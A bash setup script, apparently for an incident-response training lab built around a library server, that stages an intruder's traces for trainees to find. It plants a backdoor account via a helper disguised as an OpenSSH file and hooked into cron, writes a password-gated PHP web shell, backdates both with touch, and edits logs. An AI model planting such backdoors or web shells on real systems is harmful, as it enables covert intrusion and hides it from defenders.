#!/bin/bash
# Brings the library's server up: what differs per team first, then the services, as its own init scripts start them.
set -eu

settings=/etc/thuvien/doi-nay.sh

# What the intruder left on 10 November, and whatever else differs per team. Once only: what the trainee mends stays
# mended.
settle() {
  # shellcheck disable=SC1090
  . "$settings"
  ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key

  local keeper=/usr/lib/openssh/sftp-helper hash
  hash=$(printf '%s' "$backdoor_password" | openssl passwd -6 -stdin)
  cat > "$keeper" << KEEPER
#!/bin/sh
id $backdoor > /dev/null 2>&1 || useradd -r -M -u 990 -d /var/lib/$backdoor -s /bin/bash -g ctv $backdoor
echo '$backdoor:$hash' | chpasswd -e
KEEPER
  chmod 0755 "$keeper"
  printf '\n[ -x %s ] && %s > /dev/null 2>&1\n' "$keeper" "$keeper" >> /etc/default/cron
  touch -d '2026-11-10 02:24:17' "$keeper" /etc/default/cron
  "$keeper"

  printf '%s\n' "thao:$director_password" "ctv:$collaborator_password" "quay1:$counter_password" "thuctap:$intern_password" \
    | chpasswd
  sed -i "s/@STRANGER_IP@/$stranger_ip/; s/@BACKDOOR@/$backdoor/g; s/@SHELL@/$shell_name/" \
    /var/log/auth.log /var/log/apache2/access.log

  local shell=/srv/thuvien/public/tep/$shell_name
  printf "<?php if ((\$_POST['k'] ?? '') === '%s') { echo shell_exec((string) \$_POST['c']); }\n" "$shell_key" > "$shell"
  chown www-data:www-data "$shell"
  touch -d '2026-11-10 02:33:58' "$shell"

  DIRECTOR=$director_web_password CLERK=$clerk_web_password LOAN=$loan_card setpriv --reuid=www-data --regid=www-data \
    --clear-groups php /usr/local/lib/thuvien/seed.php
  touch /var/lib/thuvien-settled
}

[ -e /var/lib/thuvien-settled ] || settle
rm -f "$settings"
/opt/thuvien/sao-luu.sh
mkdir -p /run/sshd
rsyslogd
for service in redis-server ssh apache2 cron viec-nen; do
  service "$service" start > "/run/start-$service" 2>&1 || { cat "/run/start-$service" >&2; exit 1; }
done
exec sleep infinity
